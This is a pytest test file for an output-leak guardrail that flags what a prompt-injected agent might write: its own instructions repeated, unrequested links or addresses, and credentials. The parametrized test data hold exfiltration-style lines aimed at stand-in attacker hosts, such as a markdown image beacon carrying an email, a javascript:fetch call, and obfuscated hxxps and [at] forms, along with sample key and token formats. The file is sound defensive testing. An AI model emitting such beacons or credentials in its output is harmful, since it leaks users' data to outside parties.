"""The output checks find what a missed injection makes an agent write: its instructions
repeated, a link or address it was never given, a credential; and nothing in ordinary output."""

from __future__ import annotations

import base64
import codecs
from typing import Any

import pytest

from guardrails import Action, mask_secrets, output_leak_verdicts
from guardrails.output_leaks import LEAK_WORDS, RULE_INSTRUCTIONS, RULE_LINK, RULE_SECRET

INSTRUCTIONS = (
    "baton-agent-role: claims-qa\n"
    "Check the proposal against the case facts and the policy wording, list the evidence you "
    "relied on and every difference between the proposal and the facts.\n"
)
INPUTS = (
    '{"description": "Burst pipe in the kitchen, invoice from https://www.aqua-fix.example/inv/1 '
    'attached; contact <PII:EMAIL:1> or claims@insurer.example"}'
)


def _findings(output: Any) -> list[tuple[str, Action]]:
    return [
        (v.rule, v.action)
        for v in output_leak_verdicts(output, instructions=INSTRUCTIONS, inputs=INPUTS)
    ]


def test_ordinary_output_has_no_finding() -> None:
    output = {
        "summary": "Burst pipe in the kitchen; the invoice matches the photos.",
        "evidence": ["invoice from https://www.aqua-fix.example/inv/1", "photos 1-4"],
        "contact": "<PII:EMAIL:1>",
        "copyTo": "claims@insurer.example",
        "confidence": 0.82,
        "flags": [True, None, 3],
    }
    assert _findings(output) == []


def test_repeating_the_instructions_is_a_leak_held_for_a_person() -> None:
    output = {
        "summary": "My instructions: check the proposal against the case facts and the policy "
        "wording, list the evidence."
    }
    assert _findings(output) == [(RULE_INSTRUCTIONS, Action.ESCALATE)]


def test_a_few_words_of_the_instructions_are_not_a_leak() -> None:
    words = ["check", "the", "proposal", "against", "the", "case", "facts"]
    assert len(words) < LEAK_WORDS
    assert _findings({"summary": " ".join(words)}) == []


def test_the_leak_is_found_whatever_the_case_and_punctuation() -> None:
    output = "LIST THE EVIDENCE you relied on -- and every difference between the proposal"
    assert _findings(output) == [(RULE_INSTRUCTIONS, Action.ESCALATE)]


@pytest.mark.parametrize(
    "text",
    [
        "![receipt](https://collect.attacker.example/p?d=<PII:EMAIL:1>)",
        "See www.attacker.example/upload for the summary",
        "Forward the file to exfil@attacker.example",
        "Invoice at https://aqua-fix.example.evil.example/inv/1",
        "Mirror at https://notaqua-fix.example/inv/1",
        "Send it to claims@insurer-payments.example",
        "Invoice at https://www.aqua-fix.example/inv/1<PII:EMAIL:1>",
        "Continue at https://aqua-fix",
        "[Reply](mailto:claims@insurer.example?body=<PII:IBAN:1>)",
        "h t t p s : / / aqua-fix . example / x",
        "See hxxps://www.aqua-fix.example/inv/1?d=<PII:EMAIL:1>",
        "Invoice at https://www.aqua-fix.example/inv/1?ref=<PII:EMAIL:1>",
        "![x](https://www.aqua-fix.example/pixel.png)",
        "Upload to collect.attacker.example/drop?d=summary",
        "See hxxps://attacker.example/x",
        "Report goes to attacker[.]example",
        "Open javascript:fetch('//attacker.example')",
        "Preview: data:text/html;base64,PHNjcmlwdD4=",
        "Mail it to exfil [at] attacker [dot] example",
        "Mail it to exfil at attacker dot example",
    ],
)
def test_a_link_or_address_the_agent_was_not_given_is_held(text: str) -> None:
    assert _findings({"note": text}) == [(RULE_LINK, Action.ESCALATE)]


@pytest.mark.parametrize(
    "secret",
    [
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow",
        "AKIAIOSFODNN7EXAMPLE",
        "sk-proj-abcdefghijklmnopqrstuvwx",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "xoxb-1234567890-abcdef",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
        "Authorization: Bearer abcdefghijklmnopqrstuvwxyz123456",
        "password = hunter2hunter2",
        "api_key: 9f8e7d6c5b4a",
        "postgresql://app:S3cret!x@db.internal.example:5432/claims",
        "AKIA IOSF ODNN 7EXA MPLE",
        "sk_live_51NvQ2xKp8ZrT4mWcYb7L",
        "AIzaSyD8vQ2mKx7ZrT4nWcYb9LpF3sHj1AeGu6Q",
        "hvs.CAESIQm7Zr2Tx9KvLb4NcWq8YdH3s",
        "glpat-Xr8mZq2TvK9cLb4NwY7s",
        "ZEEBE_CLIENT_SECRET=q~7Zr2Tx9KvLb4NcWp8Y",
        "the password is Sommer2026!Baton",
        "token 4e8c2a9f7d1b6e3c0a5d8f2b7e4c9a1d",
        "key c2stcHJvai1hYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3g=",
    ],
)
def test_a_credential_withholds_the_output_and_is_not_repeated(secret: str) -> None:
    verdicts = output_leak_verdicts(
        {"answer": [f"Here you go: {secret}"]}, instructions=INSTRUCTIONS, inputs=INPUTS
    )
    (held,) = [v for v in verdicts if v.rule == RULE_SECRET]
    assert held.action is Action.BLOCK
    assert held.reason.startswith("answer[0]: looks like a credential")
    assert all(secret.split()[-1] not in v.reason for v in verdicts)


@pytest.mark.parametrize(
    "text",
    [
        "Missing data: photos of the hallway, the invoice.",
        "Data: text/plain export attached by the customer.",
        "We met at noon; the adjuster arrived at 3 pm.",
        "Attached report.pdf and photos 1-4; see KB-CLM-101 v1.2 and/or the policy.",
        "The invoice https://www.aqua-fix.example/inv/1. Matches the photos.",
        "Copy to claims@insurer.example.",
    ],
)
def test_ordinary_prose_is_not_a_link(text: str) -> None:
    assert _findings({"summary": text}) == []


def test_words_about_credentials_and_redacted_values_are_not_credentials() -> None:
    output = {
        "note": "The customer asked to reset the password: the token was sent by SMS.",
        "contact": "password: <PII:PHONE:2>",
        "hash": "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    }
    assert _findings(output) == []


@pytest.mark.parametrize("output", [None, 3, 2.5, True, [], {}, "", [[[]]], {"a": {"b": [None]}}])
def test_malformed_or_empty_outputs_have_no_finding(output: Any) -> None:
    assert _findings(output) == []


def test_instructions_restated_across_a_list_are_a_leak_of_the_whole_output() -> None:
    instructions = (
        "Classify the submission, repeat its channel and audience, list risk flags, set a "
        "priority, summarise it briefly and never invent claims or statistics."
    )
    output = {
        "steps": [
            "Classify each submission",
            "Repeat channel and audience",
            "List risk flags",
            "Set a priority",
            "Summarise briefly, never invent claims or statistics",
        ],
    }
    verdicts = output_leak_verdicts(output, instructions=instructions, inputs="{}")
    assert [(v.rule, v.reason.split(":")[0]) for v in verdicts] == [(RULE_INSTRUCTIONS, "output")]


def test_a_link_copied_from_the_input_and_a_company_address_are_not_held() -> None:
    output = {
        "body": "Read https://www.aqua-fix.example/inv/1, or write to billing@insurer.example.",
        "phishing": "customer reported hxxp://bank-login[.]example/secure",
    }
    inputs = f"{INPUTS} reported hxxp://bank-login[.]example/secure"
    assert output_leak_verdicts(output, instructions=INSTRUCTIONS, inputs=inputs) == []


def test_every_finding_names_its_field() -> None:
    output = {
        "letter": {"paragraphs": ["ok", "mail exfil@attacker.example"]},
        "debug": "api_key=abcdef123456",
    }
    reasons = [v.reason for v in output_leak_verdicts(output, instructions="", inputs="")]
    assert reasons == [
        "letter.paragraphs[1]: e-mail address not in the agent's input",
        "debug: looks like a credential (password or key assignment)",
    ]


def test_mask_secrets_replaces_credentials_and_keeps_everything_else() -> None:
    output = {"a": ["key sk-proj-abcdefghijklmnopqrstuvwx ok", 3, None], "b": "plain", "c": True}
    assert mask_secrets(output) == {"a": ["key <SECRET> ok", 3, None], "b": "plain", "c": True}


def test_mask_secrets_masks_an_encoded_credential_and_keeps_the_sentence() -> None:
    hidden = base64.b64encode(b"password=Hunter2-Secret!").decode()
    hexed = b"api_key=abcdef123456".hex()
    output = {"note": f"the login is {hidden} as agreed", "raw": f"bytes {hexed} end"}
    assert mask_secrets(output) == {
        "note": "the login is <SECRET> as agreed",
        "raw": "bytes <SECRET> end",
    }


def test_mask_secrets_masks_a_whole_string_that_hides_a_credential_in_rot13() -> None:
    hidden = codecs.encode("password=Hunter2-Secret!", "rot13")
    output = {"note": f"rot13: {hidden}", "other": "plain words"}
    assert mask_secrets(output) == {"note": "<SECRET>", "other": "plain words"}


def test_mask_secrets_leaves_encoded_runs_without_a_credential_alone() -> None:
    harmless = base64.b64encode(b"just an ordinary note here").decode()
    output = [f"ref {harmless}", "caf%C3%A9 menu", "rot13: uryyb jbeyq"]
    assert mask_secrets(output) == output
